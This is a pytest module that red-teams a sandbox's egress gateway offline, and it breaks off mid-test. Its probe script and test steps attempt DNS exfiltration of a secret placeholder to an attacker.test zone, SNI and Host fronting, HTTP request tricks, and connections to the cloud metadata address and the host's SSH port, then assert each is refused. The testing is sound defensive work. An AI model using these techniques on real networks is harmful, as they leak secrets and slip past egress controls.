"""The docker provider's egress gateway against the red team (issue 52 point 5), offline: the tests' own
internet (tests/support/egress_hosts.py: a resolver for the test zones that delegates ``attacker.test`` to a
logging attacker's name server, HTTPS echo virtual hosts sharing one address, UDP 443 and ICMP loggers, a
TCP echo), the gateway configured to use that resolver (``egress_resolver``) and to trust the tests' CA
upstream (``egress_upstream_ca``).

Every test here carries the ``egress_gateway`` mark and is named for what it pins. Sessions run the Python
image; what they try is the probe below, run with ``python3 -c`` in the session (no curl there): each step
prints one JSON line with its result, its error and how long it took. A refusal must be visible and fast (a
reset, an NXDOMAIN, a 403, no route), and the test hosts' logs show what reached them: a count of 0 there
means nothing arrived, because the fixture checked from the host that each logger logs.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import ipaddress
import json
import secrets
import threading
import time
from collections.abc import Coroutine, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, TypeVar

import pytest

from jupyter_tai_sandbox.contract.egress import (
    PLACEHOLDER_PATTERN,
    EgressPolicy,
    SecretGrant,
    new_placeholder,
)
from jupyter_tai_sandbox.gate import GatedSandbox
from jupyter_tai_sandbox.images import PYTHON_IMAGE
from jupyter_tai_sandbox.policy import SandboxPolicy
from tests.support.docker import provider, python_image, spec
from tests.support.egress_hosts import (
    ALLOWED,
    ATTACKER_ZONE,
    CNAME_TO_ALLOWED,
    ECHO,
    PLAIN,
    SECRET_HOST,
    TCP_ECHO_PORT,
    UNLISTED,
    UNLISTED_WWW,
    EgressHosts,
    egress_hosts,
)

pytestmark = [
    pytest.mark.docker,
    pytest.mark.egress_gateway,
    pytest.mark.slow(70),
    pytest.mark.usefixtures("nothing_left"),
]

__all__ = ["egress_hosts"]  # the fixture, imported for this module

T = TypeVar("T")

SECRET_NAME = "redteam-token"
SECRET_ENV = "RT_TOKEN"
#: a refusal is seen within this (a reset, an NXDOMAIN, a 403, no route: never a timeout)
FAST = 1.0
#: the test hosts' CA in a session's workspace
ROOTS = "test-roots.pem"

#: run in a session as ``python3 -c PROBE STEPS_JSON``: one JSON line per step
PROBE = r"""
import json, os, random, re, socket, ssl, struct, sys, time

TYPES = {"A": 1, "NS": 2, "CNAME": 5, "MX": 15, "TXT": 16, "AAAA": 28, "ANY": 255}


def nameserver():
    for line in open("/etc/resolv.conf"):
        words = line.split()
        if words[:1] == ["nameserver"]:
            return words[1]


def recv_exact(sock, size):
    data = b""
    while len(data) < size:
        chunk = sock.recv(size - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


def skip_name(data, offset):
    while True:
        length = data[offset]
        if length & 0xC0 == 0xC0:
            return offset + 2
        if length == 0:
            return offset + 1
        offset += 1 + length


def dns(step):
    server = step.get("server") or nameserver()
    name = step["name"]
    query = struct.pack("!6H", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    query += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0"
    query += struct.pack("!HH", TYPES[step.get("type", "A")], 1)
    if step.get("tcp"):
        with socket.create_connection((server, 53), timeout=3) as sock:
            sock.sendall(struct.pack("!H", len(query)) + query)
            data = recv_exact(sock, struct.unpack("!H", recv_exact(sock, 2))[0])
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(3)
            sock.sendto(query, (server, 53))
            data = sock.recv(4096)
    flags, _qd, count = struct.unpack("!HHH", data[2:8])
    offset = skip_name(data, 12) + 4
    answers = []
    for _ in range(count):
        offset = skip_name(data, offset)
        rtype, _c, _ttl, length = struct.unpack("!HHIH", data[offset : offset + 10])
        offset += 10
        rdata = data[offset : offset + length]
        offset += length
        answers.append(socket.inet_ntoa(rdata) if rtype == 1 and length == 4 else "type%d" % rtype)
    return {"rcode": flags & 15, "answers": answers, "server": server}


def address(step):
    return step.get("connect") or socket.gethostbyname(step["name"])


def read_response(sock):
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode(errors="replace").split("\r\n")
    if not lines[0]:
        return {"status": None, "headers": {}, "body": None}
    headers = {}
    for line in lines[1:]:
        key, _, value = line.partition(":")
        headers[key.strip().lower()] = value.strip()
    length = int(headers.get("content-length", "-1"))
    while length < 0 or len(body) < length:
        chunk = sock.recv(65536)
        if not chunk:
            break
        body += chunk
    text = body.decode(errors="replace")
    try:
        parsed = json.loads(text)
    except ValueError:
        parsed = text
    return {"status": int(lines[0].split()[1]), "headers": headers, "body": parsed}


def request_bytes(step, host):
    body = step.get("body")
    lines = ["%s %s HTTP/1.1" % ("POST" if body is not None else "GET", step.get("path", "/echo"))]
    lines.append("Host: %s" % host)
    for key, value in step.get("headers", {}).items():
        lines.append("%s: %s" % (key, value))
    if body is not None:
        lines.append("Content-Length: %d" % len(body.encode()))
    lines.append("Connection: close")
    return ("\r\n".join(lines) + "\r\n\r\n" + (body or "")).encode()


def context_for(step):
    # SSL_CERT_FILE: the image's roots and the gateway's CA; the test hosts' own CA stands for the public
    # roots a real server's certificate chains to (a step to a secret's host leaves it out: the gateway's
    # CA alone must verify the leaf it presents)
    context = ssl.create_default_context()
    if step.get("public_roots", True) and os.environ.get("TEST_ROOTS"):
        context.load_verify_locations(os.environ["TEST_ROOTS"])
    return context


def https(step):
    name = step["name"]
    sni = step.get("sni", name)
    context = context_for(step)
    if sni is None or step.get("insecure"):
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((address(step), step.get("port", 443)), timeout=5) as raw:
        with context.wrap_socket(raw, server_hostname=sni) as sock:
            sock.sendall(request_bytes(step, step.get("host", name)))
            return read_response(sock)


def http(step):
    with socket.create_connection((address(step), step.get("port", 80)), timeout=5) as sock:
        sock.sendall(request_bytes(step, step.get("host", step["name"])))
        return read_response(sock)


def tcp(step):
    # a stream: the echo may come back in pieces (read until all of it, a close, or 5 s)
    sent = step.get("send", "ping").encode()
    with socket.create_connection((address(step), step["port"]), timeout=5) as sock:
        sock.sendall(sent)
        received = b""
        while len(received) < len(sent):
            chunk = sock.recv(65536)
            if not chunk:
                break
            received += chunk
        return {"received": received.decode(errors="replace")}


def udp(step):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.5)
        sock.sendto(step.get("send", "quic?").encode(), (address(step), step.get("port", 443)))
        try:
            return {"received": sock.recv(4096).decode(errors="replace")}
        except socket.timeout:
            return {"received": None}


def icmp(step):
    errors = []
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            sock = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        except OSError as e:
            errors.append("socket %d: %s" % (kind, e))
            continue
        with sock:
            sock.settimeout(1)
            packet = struct.pack("!BBHHH", 8, 0, 0, 0, 1) + b"tai-redteam"
            try:
                sock.sendto(packet, (address(step), 0))
                sock.recv(4096)
                return {"reply": True, "errors": errors}
            except OSError as e:
                errors.append("send %d: %s" % (kind, e))
    return {"reply": False, "errors": errors}


def raw(step):
    # bytes as written (pipelined requests, odd request lines), on plain TCP or TLS with step["tls"] as SNI;
    # the answer read until the server closes (or 3 s of silence)
    sock = socket.create_connection((address(step), step["port"]), timeout=3)
    if step.get("tls"):
        sock = context_for(step).wrap_socket(sock, server_hostname=step["tls"])
    with sock:
        sock.sendall(step["send"].encode())
        data = b""
        try:
            while True:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                data += chunk
        except (socket.timeout, ConnectionError):
            pass
    text = data.decode(errors="replace")
    statuses = [int(code) for code in re.findall(r"HTTP/1\.[01] (\d{3}) ", text)]
    return {"statuses": statuses, "text": text[:3000]}


def hello(step):
    # a hand-made TLS ClientHello naming step["sni"] (any text: an IP literal too, which Python's ssl never
    # puts in an SNI); the answer's first bytes, or the error (a reset)
    name = step["sni"].encode()
    extension = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    body = b"\x03\x03" + os.urandom(32) + b"\x00" + struct.pack("!H", 2) + b"\x13\x01" + b"\x01\x00"
    body += struct.pack("!H", len(extension)) + extension
    handshake = b"\x01" + struct.pack("!I", len(body))[1:] + body
    with socket.create_connection((address(step), 443), timeout=3) as sock:
        sock.sendall(b"\x16\x03\x01" + struct.pack("!H", len(handshake)) + handshake)
        return {"answer": sock.recv(64).hex()}


def urllib_get(step):
    import urllib.request

    with urllib.request.urlopen(step["url"], timeout=5, context=context_for(step)) as answer:
        return {"status": answer.status, "body": json.loads(answer.read())}


def hold(step):
    kept = step["marker"] + os.environ.get(step.get("env", ""), "")
    open(step["ready"], "w").write("held")
    time.sleep(step["seconds"])
    return {"kept": len(kept)}


OPS = {"dns": dns, "https": https, "http": http, "tcp": tcp, "udp": udp, "icmp": icmp, "urllib": urllib_get, "raw": raw, "hello": hello,
       "hold": hold, "sleep": lambda step: time.sleep(step["seconds"])}

for step in json.loads(sys.argv[1]):
    started = time.time()
    result = {"op": step["op"], "started": started}
    try:
        result["result"] = OPS[step["op"]](step)
    except Exception as e:
        result["error"] = "%s: %s" % (type(e).__name__, e)
        result["errno"] = getattr(e, "errno", None)
    result["elapsed"] = time.time() - started
    print(json.dumps(result), flush=True)
"""


class Loop:
    """One event loop in a thread for the module: its provider, its gateway's watch and its sessions live
    across the tests (the suite has no async fixtures)."""

    def __init__(self) -> None:
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.thread.start()

    def run(self, coro: Coroutine[Any, Any, T], timeout: float = 180) -> T:
        return asyncio.run_coroutine_threadsafe(coro, self.loop).result(timeout)

    def close(self) -> None:
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(10)
        self.loop.close()


@dataclass
class Hooks:
    """The server's side of the gateway (what the gate sets on its provider): secrets' real values, and the
    audit lines the provider moves out of the gateway."""

    values: dict[str, str]
    lines: list[dict[str, Any]] = field(default_factory=list)

    def secret_value(self, name: str, owner: str | None = None) -> str | None:
        return self.values.get(name)

    def audit(self, record: Any) -> None:
        self.lines.append(dict(record))


@dataclass
class World:
    loop: Loop
    hosts: EgressHosts
    sandbox: Any
    hooks: Hooks
    owner: str
    real: str  # the secret's real value
    placeholder: str
    sessions: dict[str, Any]
    gateway_ip: str = ""

    def create(self, name: str, **changes: Any) -> Any:
        """A session of the module's owner (the Python image), named ``name`` in :attr:`sessions`, with the
        test hosts' CA in its workspace (the probe's stand-in for the public roots)."""

        async def make() -> Any:
            session = await self.sandbox.create(
                spec(image=PYTHON_IMAGE, owner=self.owner, ttl_seconds=1800, **changes)
            )
            self.sessions[name] = session
            await session.put_file(ROOTS, self.hosts.ca.read_bytes())
            return session

        return self.loop.run(make())

    def probe(self, session: str, *steps: dict[str, Any], timeout: float = 60) -> list[dict[str, Any]]:
        """Run ``steps`` in ``session`` (a name of :attr:`sessions`): one result per step."""
        return self.loop.run(run_probe(self.sessions[session], steps, timeout), timeout + 30)

    def one(self, session: str, step: dict[str, Any]) -> dict[str, Any]:
        return self.probe(session, step)[0]


async def run_probe(session: Any, steps: Any, timeout: float = 60) -> list[dict[str, Any]]:
    """The probe's results for ``steps`` in ``session``, one per step."""
    result = await session.exec(
        ["python3", "-c", PROBE, json.dumps(steps)],
        timeout_seconds=timeout,
        env={"TEST_ROOTS": session.resolve(ROOTS)},
    )
    lines = [json.loads(line) for line in result.stdout.decode().splitlines() if line.startswith("{")]
    assert len(lines) == len(steps), (result.exit_code, result.stdout[-2000:], result.stderr[-2000:])
    return lines


def policy(placeholder: str, allow: tuple[str, ...], **grant: Any) -> EgressPolicy:
    return EgressPolicy(
        allow=allow,
        secrets=(
            SecretGrant(
                SECRET_NAME,
                SECRET_ENV,
                placeholder,
                hosts=(SECRET_HOST,),
                **{"query": True, "body": True, **grant},
            ),
        ),
    )


#: the main session's allow-list: the allowed host, the plain HTTP host, the secret's host, one raw port
MAIN_ALLOW = (ALLOWED, PLAIN, SECRET_HOST, f"{ECHO}:{TCP_ECHO_PORT}")


@pytest.fixture(scope="module")
def world(egress_hosts: EgressHosts, client) -> Iterator[World]:
    python_image().close()
    loop = Loop()
    owner = f"redteam-{secrets.token_hex(3)}"
    real = f"real-secret-{secrets.token_hex(16)}"
    placeholder = new_placeholder()
    hooks = Hooks({SECRET_NAME: real})
    sandbox = loop.run(_make_sandbox(egress_hosts, hooks))
    world = World(loop, egress_hosts, sandbox, hooks, owner, real, placeholder, {})
    try:
        world.create("main", egress=policy(placeholder, MAIN_ALLOW), env={SECRET_ENV: placeholder})
        world.create("plain")  # plain egress: the baseline that shows the test hosts are reachable at all
        answer = world.one("main", {"op": "dns", "name": ALLOWED})
        world.gateway_ip = answer["result"]["answers"][0]
        yield world
    finally:
        for session in world.sessions.values():
            with contextlib.suppress(Exception):
                loop.run(session.destroy(remove_workspace=True), 120)
        with contextlib.suppress(Exception):
            loop.run(sandbox.close(), 60)
        loop.close()


async def _make_sandbox(hosts: EgressHosts, hooks: Hooks) -> Any:
    sandbox = provider(egress_resolver=hosts.resolver, egress_upstream_ca=str(hosts.ca))
    sandbox.egress_hooks = hooks
    return sandbox


def refused(result: dict[str, Any]) -> bool:
    """Whether a connection step was refused the visible way: an error (reset, no route, closed) or a 403
    naming the policy."""
    if "error" in result:
        return True
    answer = result["result"]
    return answer.get("status") == 403 and answer["headers"].get("x-tai-sandbox-egress") == "refused"


def outcomes(steps: Any, results: list[dict[str, Any]]) -> str:
    """Each probe step and its outcome, a line each (an assertion's repr of the list is cut short)."""
    return "\n".join(
        f"{step}: {r['error'] if 'error' in r else r.get('result')} in {r['elapsed']:.2f} s"
        for step, r in zip(steps, results, strict=True)
    )


# ------------------------------------------------------------------------------------------------- tests


def test_allowed_host_answers_through_the_gateway(world: World) -> None:
    hosts = world.hosts
    assert world.gateway_ip and world.gateway_ip != hosts.web  # the session's DNS answers the gateway
    before = len(hosts.http_requests())
    steps = world.probe(
        "main",
        {"op": "urllib", "url": f"https://{ALLOWED}/echo?from=urllib"},
        {"op": "https", "name": ALLOWED, "path": "/echo?from=socket"},
        {"op": "http", "name": PLAIN, "path": "/echo?from=http"},
        {"op": "tcp", "name": ECHO, "port": TCP_ECHO_PORT, "send": "ping-through-gateway"},
        {"op": "dns", "name": ALLOWED, "type": "AAAA"},  # no IPv6 answer: clients never try a v6 route
    )
    assert all("error" not in s for s in steps), steps
    assert steps[4]["result"]["rcode"] == 0 and steps[4]["result"]["answers"] == [], steps[4]
    assert steps[0]["result"]["status"] == 200
    assert steps[0]["result"]["body"]["vhost"] == ALLOWED
    assert steps[1]["result"]["body"]["sni"] == ALLOWED  # pass-through: the server's own certificate
    assert steps[2]["result"]["body"]["host"] == PLAIN
    assert steps[3]["result"]["received"] == "ping-through-gateway"
    arrived = hosts.http_requests()[before:]
    assert {r["query"] for r in arrived} >= {"from=urllib", "from=socket", "from=http"}
    # the web host saw the gateway's way out, never the session's own address
    assert all(r["client"] != world.gateway_ip for r in arrived)


def test_unlisted_host_is_refused_visibly_and_fast(world: World) -> None:
    hosts = world.hosts
    before = len(hosts.http_requests())
    gw = world.gateway_ip
    dns, tls, plain = world.probe(
        "main",
        {"op": "dns", "name": UNLISTED},
        {"op": "https", "name": UNLISTED, "connect": gw},
        {"op": "http", "name": UNLISTED, "connect": gw},
    )
    assert dns["result"]["rcode"] == 3, dns  # NXDOMAIN
    assert "error" in tls, tls  # a reset: no TLS session with the unlisted name
    assert plain["result"]["status"] == 403, plain
    assert plain["result"]["headers"].get("x-tai-sandbox-egress") == "refused"
    assert UNLISTED in str(plain["result"]["body"]) and "egress policy" in str(plain["result"]["body"])
    assert max(s["elapsed"] for s in (dns, tls, plain)) < FAST, (dns, tls, plain)
    assert not [r for r in hosts.http_requests()[before:] if UNLISTED in (r.get("host"), r.get("sni"))]
    refusals = [line for line in world.hooks.lines if line.get("host") == UNLISTED]
    deadline = time.monotonic() + 5  # the audit pump moves the gateway's lines every second
    while {"dns", "tls", "http"} - {line.get("kind") for line in refusals} and time.monotonic() < deadline:
        time.sleep(0.2)
        refusals = [line for line in world.hooks.lines if line.get("host") == UNLISTED]
    assert {"dns", "tls", "http"} <= {line["kind"] for line in refusals}, refusals
    assert all(line["decision"] == "refuse" for line in refusals)


def test_dns_exfiltration_reaches_no_attacker_name_server(world: World) -> None:
    hosts = world.hosts
    token = secrets.token_hex(8)
    attacker_before = len(hosts.attacker_queries())
    resolver_before = len(hosts.resolver_queries())
    leak = f"{world.placeholder}.{token}.{ATTACKER_ZONE}"
    steps = [
        {"op": "dns", "name": leak, "type": qtype}
        for qtype in ("A", "AAAA", "TXT", "MX", "CNAME", "NS", "ANY")
    ]
    steps += [
        {"op": "dns", "name": f"X{token}.AtTaCkEr.TeSt"},  # case games
        {"op": "dns", "name": f"{token}.{ATTACKER_ZONE}", "tcp": True},  # DNS over TCP
        {"op": "dns", "name": f"{ALLOWED}.{token}.{ATTACKER_ZONE}"},  # an allowed name as a prefix
        {"op": "dns", "name": f"{token}.{ATTACKER_ZONE}", "server": world.gateway_ip},  # the gateway itself
        {"op": "dns", "name": f"{token}.{ATTACKER_ZONE}", "server": world.gateway_ip, "tcp": True},
        {"op": "dns", "name": f"{token}.{ATTACKER_ZONE}", "server": hosts.addresses["dns"]},  # the resolver
        {"op": "https", "name": f"{token}.{ATTACKER_ZONE}", "connect": world.gateway_ip},  # as an SNI
        {"op": "http", "name": f"{token}.{ATTACKER_ZONE}", "connect": world.gateway_ip},  # as a Host
    ]
    results = world.probe("main", *steps)
    answered = [r for r in results[:-3] if "result" in r]
    assert all(r["result"]["rcode"] in (3, 5) for r in answered), answered  # NXDOMAIN / REFUSED
    assert not [r for r in answered if r["result"]["answers"]], answered
    assert "error" in results[-3]  # the resolver's address: no route
    assert refused(results[-2]) and refused(results[-1]), results[-2:]
    time.sleep(0.5)  # a query in flight would land by now
    assert hosts.attacker_queries()[attacker_before:] == []
    assert [q for q in hosts.resolver_queries()[resolver_before:] if token in q.get("name", "")] == []


def test_sni_and_host_fronting_are_refused(world: World) -> None:
    hosts = world.hosts
    gw = world.gateway_ip
    before = len(hosts.http_requests())
    sni_unlisted, no_sni, host_unlisted, terminated_host, ip_sni, control = world.probe(
        "main",
        # an allowed name's address (the gateway), an unlisted SNI
        {"op": "https", "name": ALLOWED, "sni": UNLISTED, "host": UNLISTED, "connect": gw},
        # no SNI at all
        {"op": "https", "name": ALLOWED, "sni": None, "connect": gw},
        # HTTP: connected for an allowed name, asking for an unlisted Host
        {"op": "http", "name": PLAIN, "host": UNLISTED, "connect": gw},
        # the secret's host (TLS terminated): SNI allowed, Host unlisted
        {"op": "https", "name": SECRET_HOST, "host": UNLISTED, "path": "/digest", "public_roots": False},
        # an IP literal as the SNI (the shared address), in a hand-made ClientHello
        {"op": "hello", "name": ALLOWED, "sni": hosts.web, "connect": gw},
        # the same hand-made ClientHello naming the allowed host: forwarded (the server answers it)
        {"op": "hello", "name": ALLOWED, "sni": ALLOWED, "connect": gw},
    )
    assert "error" in sni_unlisted, sni_unlisted
    assert "error" in no_sni, no_sni
    assert host_unlisted["result"]["status"] == 403, host_unlisted
    assert terminated_host["result"]["status"] == 421, terminated_host
    assert "error" in ip_sni or ip_sni["result"]["answer"] == "", ip_sni
    assert control["result"]["answer"][:2] in ("15", "16"), (
        control
    )  # an alert or a ServerHello: it got through
    assert all(s["elapsed"] < FAST for s in (sni_unlisted, no_sni, host_unlisted, terminated_host))
    fronted = [r for r in hosts.http_requests()[before:] if UNLISTED in (r.get("host"), r.get("sni"))]
    assert fronted == []


def test_http_request_tricks_cannot_reach_an_unlisted_host(world: World) -> None:
    """Port 80 and a terminated TLS connection check every request's host, not the first one's: a second
    request on a kept-alive connection, an absolute-form request line and a doubled Host header cannot
    reach the unlisted virtual host behind the allowed one's server."""
    hosts = world.hosts
    gw = world.gateway_ip
    before = len(hosts.http_requests())

    def get(target: str, host: str, *extra: str, close: bool = False) -> str:
        lines = [f"GET {target} HTTP/1.1", f"Host: {host}", *extra, *(["Connection: close"] if close else [])]
        return "\r\n".join(lines) + "\r\n\r\n"

    keep_alive, absolute, doubled, terminated = world.probe(
        "main",
        {"op": "raw", "name": PLAIN, "connect": gw, "port": 80,
         "send": get("/echo?n=1", PLAIN) + get("/echo?n=2", UNLISTED, close=True)},
        {"op": "raw", "name": PLAIN, "connect": gw, "port": 80,
         "send": get(f"http://{UNLISTED}/echo?n=3", PLAIN, close=True)},
        {"op": "raw", "name": PLAIN, "connect": gw, "port": 80,
         "send": get("/echo?n=4", PLAIN, f"Host: {UNLISTED}", close=True)},
        {"op": "raw", "name": SECRET_HOST, "port": 443, "tls": SECRET_HOST, "public_roots": False,
         "send": get("/echo?n=5", SECRET_HOST) + get("/echo?n=6", UNLISTED, close=True)},
    )  # fmt: skip
    assert keep_alive["result"]["statuses"][:2] == [200, 403], keep_alive
    assert absolute["result"]["statuses"][0] in (400, 403), absolute
    assert doubled["result"]["statuses"][0] in (400, 403), doubled
    assert terminated["result"]["statuses"][:2] == [200, 421], terminated
    arrived = hosts.http_requests()[before:]
    assert {r["query"] for r in arrived} <= {"n=1", "n=5"}, arrived
    assert not [r for r in arrived if UNLISTED in json.dumps(r)]


def test_a_placeholder_is_substituted_only_for_the_session_it_was_granted_to(world: World) -> None:
    """Another session of the same owner that allows the secret's host but holds no grant sends the main
    session's placeholder there: it arrives as the placeholder (the gateway does not even terminate TLS)."""
    hosts = world.hosts
    if "thief" not in world.sessions:
        world.create("thief", egress=EgressPolicy(allow=(SECRET_HOST,)))
    before = len(hosts.http_requests())
    (step,) = world.probe(
        "thief",
        {"op": "https", "name": SECRET_HOST, "path": "/echo",
         "headers": {"Authorization": f"Bearer {world.placeholder}"}},
    )  # fmt: skip
    assert step["result"]["status"] == 200, step
    assert step["result"]["body"]["sni"] == SECRET_HOST  # the server's own certificate: pass-through
    (arrived,) = [r for r in hosts.http_requests()[before:] if r.get("path") == "/echo"]
    assert dict(arrived["headers"])["Authorization"] == f"Bearer {world.placeholder}"


def test_deny_wins_over_a_wildcard_allow_at_the_gateway(world: World) -> None:
    """Deny wins over a wildcard allow; and a name the wildcard admits is answered by the gateway alone
    (its own address, upstream never asked: data in a looked-up name reaches the allowed zone's name
    server only when a connection makes the gateway resolve it)."""
    world.create("deny", egress=EgressPolicy(allow=("*.allowed.test",), deny=(PLAIN,)))
    gw = world.gateway_ip
    token = secrets.token_hex(8)
    resolver_before = len(world.hosts.resolver_queries())
    www, plain, plain_http, apex, wild = world.probe(
        "deny",
        {"op": "https", "name": ALLOWED, "path": "/echo"},
        {"op": "dns", "name": PLAIN},
        {"op": "http", "name": PLAIN, "connect": gw},
        {"op": "dns", "name": "allowed.test"},  # '*.allowed.test' is the names under it, not the apex
        {"op": "dns", "name": f"{token}.allowed.test"},
    )
    assert www["result"]["status"] == 200, www
    assert plain["result"]["rcode"] == 3 and apex["result"]["rcode"] == 3, (plain, apex)
    assert plain_http["result"]["status"] == 403, plain_http
    assert wild["result"]["answers"] == [gw], wild
    time.sleep(0.3)
    assert not [q for q in world.hosts.resolver_queries()[resolver_before:] if token in q.get("name", "")]


def test_a_name_resolving_to_an_allowed_hosts_address_is_refused(world: World) -> None:
    hosts = world.hosts
    before = len(hosts.http_requests())
    # upstream, other.test and www.other.test have the web host's address, as www.allowed.test does, and
    # cname.other.test is a CNAME of www.allowed.test: the gateway decides by name, not by address
    steps = (
        *({"op": "dns", "name": name} for name in (UNLISTED, UNLISTED_WWW, CNAME_TO_ALLOWED)),
        {"op": "https", "name": UNLISTED_WWW, "connect": world.gateway_ip},
        {"op": "https", "name": CNAME_TO_ALLOWED, "connect": world.gateway_ip},
        {"op": "https", "name": UNLISTED, "connect": hosts.web},  # the shared address itself
    )
    results = world.probe("main", *steps)
    assert [r["result"]["rcode"] for r in results[:3]] == [3, 3, 3], outcomes(steps[:3], results[:3])
    assert all("error" in r and r["elapsed"] < FAST for r in results[3:]), outcomes(steps[3:], results[3:])
    assert [r for r in hosts.http_requests()[before:] if r.get("vhost", "").endswith(UNLISTED)] == []


def test_raw_ip_udp_443_and_icmp_get_no_route(world: World) -> None:
    hosts = world.hosts
    udp_before, icmp_before, tcp_before = (
        len(hosts.udp_datagrams()),
        len(hosts.icmp_echoes()),
        len(hosts.tcp_connections()),
    )
    web = hosts.web
    host_side = str(ipaddress.ip_address(web) - 1)  # the host's end of the web host's veth
    results = world.probe(
        "main",
        {"op": "https", "name": ALLOWED, "connect": web},  # an allowed name at the address it has upstream
        {"op": "tcp", "name": ECHO, "connect": web, "port": TCP_ECHO_PORT},
        {"op": "tcp", "name": "metadata", "connect": "169.254.169.254", "port": 80},
        {"op": "tcp", "name": "the host", "connect": host_side, "port": 22},
        {"op": "tcp", "name": "ipv6", "connect": "2001:db8::1", "port": 443},
        {"op": "udp", "name": ALLOWED, "connect": web, "port": 443, "send": "quic-direct"},
        {"op": "udp", "name": ALLOWED, "port": 443, "send": "quic-via-gateway"},  # QUIC to the allowed name
        {"op": "icmp", "name": "web", "connect": web},
        {"op": "icmp", "name": "gateway", "connect": world.gateway_ip},
    )
    https_direct, tcp_direct, metadata, host, ipv6, _udp_direct, udp_gateway, icmp_web, _icmp_gw = results
    for step in (https_direct, tcp_direct, metadata, host, ipv6):
        assert "error" in step and step["elapsed"] < FAST, step
    assert udp_gateway["result"]["received"] is None  # nothing answers UDP 443 on the gateway
    assert icmp_web.get("result", {}).get("reply") is not True, icmp_web
    time.sleep(0.5)
    assert hosts.udp_datagrams()[udp_before:] == []
    assert hosts.icmp_echoes()[icmp_before:] == []
    assert [c for c in hosts.tcp_connections()[tcp_before:] if c["client"] == web] == []
    # the same from a session on plain egress reaches the web host: the route exists, the gateway's
    # topology is what refuses
    control = world.probe(
        "plain",
        {"op": "tcp", "name": ECHO, "connect": web, "port": TCP_ECHO_PORT, "send": "direct"},
        {"op": "udp", "name": ALLOWED, "connect": web, "port": 443, "send": "quic-control"},
    )
    assert control[0]["result"]["received"] == "direct", control
    deadline = time.monotonic() + 3
    while not hosts.udp_datagrams()[udp_before:] and time.monotonic() < deadline:
        time.sleep(0.1)
    assert hosts.udp_datagrams()[udp_before:], "the plain session's datagram never arrived"


def test_placeholder_sent_to_another_host_arrives_unchanged(world: World) -> None:
    hosts = world.hosts
    ph = world.placeholder
    before = len(hosts.http_requests())
    tls, plain = world.probe(
        "main",
        # an allowed host that is not the secret's: pass-through, the gateway never sees the plaintext
        {
            "op": "https",
            "name": ALLOWED,
            "path": f"/echo?token={ph}",
            "headers": {"Authorization": f"Bearer {ph}"},
            "body": f"token={ph}",
        },
        # the secret's own host, but in cleartext on port 80: never substituted
        {
            "op": "http",
            "name": SECRET_HOST,
            "path": f"/echo?token={ph}",
            "headers": {"Authorization": f"Bearer {ph}"},
        },
    )
    assert tls["result"]["status"] == 200 and plain["result"]["status"] == 200, (tls, plain)
    for step in (tls, plain):
        seen = step["result"]["body"]
        assert dict(seen["headers"])["Authorization"] == f"Bearer {ph}"
        assert seen["query"] == f"token={ph}"
    arrived = hosts.http_requests()[before:]
    assert arrived and not [r for r in arrived if world.real in json.dumps(r)]


def test_placeholder_is_replaced_toward_the_secrets_host(world: World) -> None:
    hosts = world.hosts
    ph, real = world.placeholder, world.real
    before = len(hosts.http_requests())
    (step,) = world.probe(
        "main",
        {
            "op": "https",
            "name": SECRET_HOST,
            "public_roots": False,
            "path": f"/digest?token={ph}",
            "headers": {"Authorization": f"Bearer {ph}", "X-Other": "no placeholder"},
            "body": f"token={ph}",
        },
    )
    assert step["result"]["status"] == 200, step
    seen = step["result"]["body"]

    def sha(text: str) -> str:
        return hashlib.sha256(text.encode()).hexdigest()

    assert dict(seen["headers"])["Authorization"] == sha(f"Bearer {real}")
    assert seen["query"] == sha(f"token={real}")  # query=True
    assert seen["body"] == sha(f"token={real}")  # body=True
    assert dict(seen["headers"])["X-Other"] == sha("no placeholder")
    (arrived,) = [r for r in hosts.http_requests()[before:] if r.get("path") == "/digest"]
    assert arrived["sni"] == SECRET_HOST and dict(arrived["headers"])["Authorization"] == f"Bearer {real}"
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        substitutions = [line for line in world.hooks.lines if line.get("kind") == "substitution"]
        if substitutions:
            break
        time.sleep(0.2)
    assert substitutions and substitutions[-1]["secret"] == SECRET_NAME, world.hooks.lines[-5:]
    assert not [line for line in world.hooks.lines if real in json.dumps(line)]  # names, never values


def test_a_secret_host_echoing_the_request_hands_back_the_placeholder_never_the_value(world: World) -> None:
    hosts = world.hosts
    ph, real = world.placeholder, world.real
    before = len(hosts.http_requests())
    (step,) = world.probe(
        "main",
        {
            "op": "https",
            "name": SECRET_HOST,
            "public_roots": False,
            "path": f"/echo?token={ph}",
            "headers": {"Authorization": f"Bearer {ph}"},
            "body": f"token={ph}",
        },
    )
    assert step["result"]["status"] == 200, step
    back = step["result"]["body"]
    # the server got the value; what it echoed reached the session with the placeholder in its place
    (arrived,) = [
        r for r in hosts.http_requests()[before:] if r.get("path") == "/echo" and r.get("sni") == SECRET_HOST
    ]
    assert (
        dict(arrived["headers"])["Authorization"] == f"Bearer {real}" and arrived["body"] == f"token={real}"
    )
    assert dict(back["headers"])["Authorization"] == f"Bearer {ph}", back
    assert back["query"] == f"token={ph}" and back["body"] == f"token={ph}", back
    assert real not in json.dumps(step)


def test_live_policy_change_applies_within_one_second(world: World) -> None:
    loop = world.loop
    session = world.create("live", egress=EgressPolicy(allow=(ALLOWED,)))
    gw = world.gateway_ip
    rounds = 80  # 0.05 s apart: 4 s at least
    steps: list[dict[str, Any]] = []
    for _ in range(rounds):
        steps += [
            {"op": "dns", "name": ALLOWED},
            {"op": "dns", "name": UNLISTED},
